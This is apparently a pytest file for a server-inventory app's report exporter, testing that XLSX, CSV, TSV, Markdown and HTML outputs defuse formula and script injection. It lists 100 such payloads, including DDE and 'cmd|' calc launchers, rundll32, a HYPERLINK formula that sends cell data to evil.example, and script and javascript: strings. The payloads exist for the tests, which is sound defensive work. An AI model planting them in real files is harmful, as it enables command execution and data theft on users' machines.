"""Reports: real types, nothing a spreadsheet would run, pages that print; and the monthly pack."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from datetime import UTC, datetime, timedelta
from html.parser import HTMLParser
from itertools import product
from pathlib import Path
from xml.etree import ElementTree

import pytest

from dsm_desktop.core.errors import BadInput
from dsm_desktop.queries.export import ExportFailed, Table
from dsm_desktop.queries.pack import monthly_pack
from dsm_desktop.queries.report import (
    FORMATS,
    Link,
    Report,
    as_html,
    as_markdown,
    as_tsv,
    bmc_link,
    write,
    write_workbook,
)
from dsm_desktop.store.unit_of_work import Store

STARTS = ("=", "+", "-", "@", "\t=", "\r=", " =", "\n=", "＝", "\ufeff=")
BODIES = (
    "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example/?"&A1,"click")', "SUM(A1:A9)", "IMPORTXML(CONCAT(\"http://x\",A1),\"//a\")",
    "DDE(\"cmd\";\"/C calc\";\"x\")", "rundll32|'URL.dll,OpenURL calc.exe'!A", "<script>alert(1)</script>", "WEBSERVICE(\"http://x\")", "|--|`x`",
)  # fmt: skip
PAYLOADS = [start + body for start, body in product(STARTS, BODIES)]
MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
NOW = datetime(2026, 11, 20, 12, tzinfo=UTC)


def payload_table() -> Table:
    return Table("Pay=loads", ("=Name", "Number"), [(text, 1.5) for text in PAYLOADS])


def cells_of(file: Path, sheet: str = "sheet1") -> ElementTree.Element:
    with zipfile.ZipFile(file) as book:
        return ElementTree.fromstring(book.read(f"xl/worksheets/{sheet}.xml"))


def test_there_are_a_hundred_payloads() -> None:
    assert len(set(PAYLOADS)) == 100


def test_no_payload_is_a_formula_in_a_workbook(tmp_path: Path) -> None:
    write(payload_table(), tmp_path / "x.xlsx")
    sheet = cells_of(tmp_path / "x.xlsx")
    assert list(sheet.iter(f"{MAIN}f")) == []
    assert list(sheet.iter(f"{MAIN}hyperlink")) == []
    kinds = [c.get("t") for c in sheet.iter(f"{MAIN}c") if (c.get("r") or "").startswith("A")]
    assert kinds == ["inlineStr"] * 101


def test_no_payload_is_live_in_csv_tsv_or_markdown(tmp_path: Path) -> None:
    write(payload_table(), tmp_path / "x.csv")
    text = (tmp_path / "x.csv").read_bytes().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    pasted = [line.split("\t") for line in as_tsv(payload_table()).rstrip("\n").split("\n")]
    marked = as_markdown(payload_table()).splitlines()
    assert len(rows) == len(pasted) == len(marked) - 1 == 101
    for row in (*rows[1:], *pasted[1:]):
        assert len(row) == 2
        assert row[0].lstrip("\ufeff \n\r\t")[0] not in "=+-@＝", row[0]
    for line in marked[2:]:
        assert line.replace("\\|", "").count("|") == 3
        assert "<script>" not in line.replace("\\<", "")


class Page(HTMLParser):
    """The cells and tags of a page."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.cells: list[str] = []
        self.links: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.links += [value or "" for name, value in attrs if name in ("href", "src")]
        if tag == "td":
            self.cells.append("")

    def handle_data(self, data: str) -> None:
        if self.cells:
            self.cells[-1] += data


def test_html_is_escaped_self_contained_and_repeats_its_header() -> None:
    page = Page()
    text = as_html(payload_table(), Report(NOW, "anna", "This machine", 'model:"<R750>"'))
    page.feed(text)
    assert "script" not in page.tags
    assert page.links == []
    assert "thead" in page.tags
    assert "table-header-group" in text
    assert "@page" in text
    assert "&lt;R750&gt;" in text
    assert page.tags.count("tr") == 101
    assert all(cell.lstrip("\ufeff \n\r\t")[:1] not in set("=+-@＝") for cell in page.cells[::2] if cell)


def test_types_and_links_are_real(tmp_path: Path) -> None:
    rows = [
        (bmc_link("10.0.0.1"), 5, -2.5, True, NOW, None, float("nan")),
        (bmc_link("fe80::1", 8443), 6, 1, False, NOW, "", 0),
    ]
    table = Table("Servers", ("BMC", "Int", "Float", "Bool", "At", "None", "Nan"), rows)
    for ending in FORMATS:
        write(table, tmp_path / f"x{ending}")
    sheet = cells_of(tmp_path / "x.xlsx")
    values = {c.get("r"): (c.get("t"), c.findtext(f"{MAIN}v")) for c in sheet.iter(f"{MAIN}c")}
    assert values["B2"] == (None, "5")
    assert values["C2"] == (None, "-2.5")
    assert values["D2"] == ("b", "1")
    assert values["E2"] == (None, "46346.5")
    assert "F2" not in values
    assert "G2" not in values
    with zipfile.ZipFile(tmp_path / "x.xlsx") as book:
        targets = book.read("xl/worksheets/_rels/sheet1.xml.rels").decode()
        raw = book.read("xl/worksheets/sheet1.xml").decode()
    assert 'Target="https://10.0.0.1/"' in targets
    assert "fe80" not in targets  # its link would be spoilt
    assert 'state="frozen"' in raw
    assert '<autoFilter ref="A1:G3"/>' in raw
    assert json.loads((tmp_path / "x.json").read_text())[0]["BMC"] == "10.0.0.1"
    assert '<a href="https://[fe80::1]:8443/"' in (tmp_path / "x.html").read_text()
    assert '<a href="https://10.0.0.1/"' in (tmp_path / "x.html").read_text()


@pytest.mark.parametrize(
    "address", ["", "a b", "10.0.0.1/x", "javascript:alert(1)//", 'x"y', "a@b", "x#y", "internal:Sheet1!A1"]
)
def test_what_is_no_address_is_no_link(address: str) -> None:
    link = bmc_link(address)
    assert not isinstance(link, Link) or link.url.startswith("https://[")
    assert str(link) == address


def test_a_link_goes_nowhere_but_https() -> None:
    for url in ("http://x", "file:///etc/passwd", "external:x.xlsx", "https://" + "x" * 3_000):
        with pytest.raises(ValueError, match="https"):
            Link("x", url)


def test_more_rows_than_a_sheet_and_names_that_meet(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("dsm_desktop.queries.report._MAX_ROWS", 10)
    tables = [
        Table("A very long title of a sheet, longer than Excel takes", ("N",), [(n,) for n in range(25)])
    ]
    tables += [
        Table("same", ("N",), [(1,)]),
        Table("SAME", ("N",), []),
        Table("His[]tory", ("N",), []),
        Table("*?", ("N",), []),
    ]
    counts = write_workbook(tables, tmp_path / "x.xlsx")
    assert list(counts.values()) == [10, 10, 5, 1, 0, 0, 0]
    assert len({name.lower() for name in counts}) == 7
    assert all(len(name) <= 31 for name in counts)


def test_a_bad_ending_and_a_bad_place_are_told(tmp_path: Path) -> None:
    with pytest.raises(BadInput, match="ending"):
        write(payload_table(), tmp_path / "x.doc")
    for ending in FORMATS:
        with pytest.raises(ExportFailed):
            write(payload_table(), tmp_path / "nowhere" / f"x{ending}")
        (tmp_path / f"folder{ending}").mkdir()
        with pytest.raises(ExportFailed):
            write(payload_table(), tmp_path / f"folder{ending}")
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(f"folder{ending}" for ending in FORMATS)


def test_the_monthly_pack_has_its_sheets_filled_from_the_store(fleet: Store, tmp_path: Path) -> None:
    now = datetime.now(UTC)
    with fleet.read() as connection:
        counts = monthly_pack(
            connection, tmp_path / "pack.xlsx", now - timedelta(minutes=90), now + timedelta(minutes=1)
        )
        some = monthly_pack(connection, tmp_path / "some.xlsx", now - timedelta(minutes=90), now, [2, 3])
    assert counts == {
        "dServer": 4, "dFirmware": 9, "dDrive": 3, "dMemory": 3, "dNic": 3, "dPsu": 3, "dLicence": 0, "dChanges": 3, "dHealth": 0,
    }  # fmt: skip
    assert (some["dServer"], some["dFirmware"], some["dChanges"]) == (2, 6, 0)
    texts = [t.text for t in cells_of(tmp_path / "pack.xlsx").iter(f"{MAIN}t")]
    for word in ("Warranty end", "2027-03-31", "production", "A3", "A12, B12", "10.0.0.1", "TAG0001"):
        assert word in texts
    drives = [t.text for t in cells_of(tmp_path / "pack.xlsx", "sheet3").iter(f"{MAIN}t")]
    assert "NEWDRIVE1" in drives
    assert "SN0001XYZ" not in drives
